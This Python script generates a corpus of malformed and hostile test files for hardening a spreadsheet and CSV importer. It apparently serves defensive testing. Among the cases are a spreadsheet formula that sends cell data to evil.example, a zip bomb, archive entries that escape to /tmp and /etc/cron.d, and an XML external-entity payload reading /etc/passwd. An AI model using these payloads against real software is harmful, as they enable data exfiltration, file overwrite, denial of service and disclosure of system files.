#!/usr/bin/env python3
"""Writes the spreadsheet cases of the corpus (29-...) from a workbook and a CSV exported from the
sample with `touchline export`. Run from this folder: python3 make-sheet-cases.py map.xlsx tp.csv"""
import io, sys, zipfile

xlsx, csv = sys.argv[1], sys.argv[2]
out = "../corpus/"
lines = open(csv, encoding="utf-8-sig").read().splitlines()
header, rows = lines[0], lines[1:]


def write_csv(name, text, encoding="utf-8"):
    open(out + name, "wb").write(text.encode(encoding) if isinstance(text, str) else text)


def rewrite_xlsx(name, change=None, extra=None):
    src = zipfile.ZipFile(xlsx)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if change:
                data = change(info.filename, data)
            z.writestr(info.filename, data)
        for entry, data in (extra or []):
            z.writestr(entry, data)
    open(out + name, "wb").write(buf.getvalue())


def first(prefix):
    return next(r for r in rows if r.startswith(prefix))


ads = first("tp-search-ads,")
write_csv("29-formula-injection.csv", header + "\n" + ads.replace("Search ads and comparison sites",
          '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"') + "\n")
write_csv("30-wrong-header.csv", header.replace("Owner", "Ownr") + "\n" + ads + "\n")
write_csv("31-no-id-column.csv", header.replace("Touchpoint id,", "") + "\n" + ads.split(",", 1)[1] + "\n")
write_csv("32-unknown-ids.csv", header + "\n" + ads.replace("tp-search-ads", "tp-does-not-exist") + "\n")
write_csv("33-text-where-a-number-goes.csv", "Measurement id,Actual\nms-moving-guide-leads,eighty\n")
write_csv("34-unknown-department.csv", header + "\n" + ads.replace(",Marketing,", ",Marketting,") + "\n")
write_csv("35-invalid-utf8.csv", (header + "\n").encode() + ads.encode().replace(b"Search", b"S\xff\xfearch") + b"\n")
write_csv("36-unclosed-quote.csv", header + "\n" + ads.replace(",Search ads", ",\"Search ads") + "\n")
write_csv("37-duplicate-rows.csv", header + "\n" + ads + "\n" + ads + "\n")
write_csv("38-semicolons-and-decimal-commas.csv", "\ufeffMeasurement id;Target;Actual\nms-moving-guide-leads;4,5;4,25\n")
write_csv("39-emoji-right-to-left-combining-marks.csv", header + "\n" + ads.replace(
    "Search ads and comparison sites", "Search ads 🚚 إعلانات البحث e\u0301\u0301").replace(",,Web site", ",שלום 👋🏽,Web site") + "\n")

data = open(xlsx, "rb").read()
open(out + "40-truncated.xlsx", "wb").write(data[: len(data) // 2])
open(out + "41-not-a-workbook.xlsx", "wb").write(b"Touchpoint id,Owner\ntp-search-ads,Sales\n")
bomb = io.BytesIO()
with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr("[Content_Types].xml", "<Types/>")
    z.writestr("xl/worksheets/sheet1.xml", b"\0" * (64 << 20))
open(out + "42-zip-bomb.xlsx", "wb").write(bomb.getvalue())
rewrite_xlsx("43-entry-with-dot-dot.xlsx", extra=[("../../../tmp/touchline-evil.txt", "owned")])
rewrite_xlsx("44-entry-with-absolute-path.xlsx", extra=[("/etc/cron.d/touchline-evil", "* * * * * root true")])
rewrite_xlsx("45-formula-cell.xlsx", lambda n, d: d.replace(
    b'<c r="H2" t="s"><v>6</v></c>', b'<c r="H2" t="str"><f>HYPERLINK("http://evil.example/","Sales")</f><v>Sales</v></c>')
    if n == "xl/worksheets/sheet1.xml" else d)
rewrite_xlsx("46-doctype-in-a-sheet.xlsx", lambda n, d: d.replace(
    b'<sst ', b'<!DOCTYPE sst [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst ', 1).replace(b'>Search ads', b'>&e;Search ads')
    if n == "xl/sharedStrings.xml" else d)
rewrite_xlsx("47-sheets-renamed.xlsx", lambda n, d: d.replace(b'name="Touchpoints"', b'name="Sheet1"').replace(
    b'name="Measurements"', b'name="Sheet2"') if n == "xl/workbook.xml" else d)

# hardening round two: shapes that made a reader allocate without end, and decimal separators
def add_rows(rows_xml):
    return lambda n, d: d.replace(b"</sheetData>", rows_xml + b"</sheetData>") if n == "xl/worksheets/sheet1.xml" else d


rewrite_xlsx("50-cell-beyond-the-last-column.xlsx",
             add_rows(b'<row r="40"><c r="ZZZZZZ40" t="inlineStr"><is><t>x</t></is></c></row>'))
rewrite_xlsx("51-cell-reference-in-single-quotes.xlsx",
             add_rows(b"<row r='40'><c r='ZZZZZZ40' t='inlineStr'><is><t>x</t></is></c></row>"))
rewrite_xlsx("52-cells-far-right-in-many-rows.xlsx", add_rows(b"".join(
    b'<row r="%d"><c r="XFD%d" t="inlineStr"><is><t>x</t></is></c></row>' % (r, r) for r in range(100, 500))))
rewrite_xlsx("53-row-beyond-the-last.xlsx",
             add_rows(b'<row r="2000000"><c r="A2000000" t="inlineStr"><is><t>x</t></is></c></row>'))
write_csv("54-thousands-separator-beside-decimal-points.csv",
          'Measurement id,Actual\nms-moving-guide-leads,3.5\nms-reviews-nps,"1,000"\n')
write_csv("55-both-decimal-separators.csv", 'Measurement id,Actual\nms-moving-guide-leads,1.5\nms-reviews-nps,"1,5"\n')
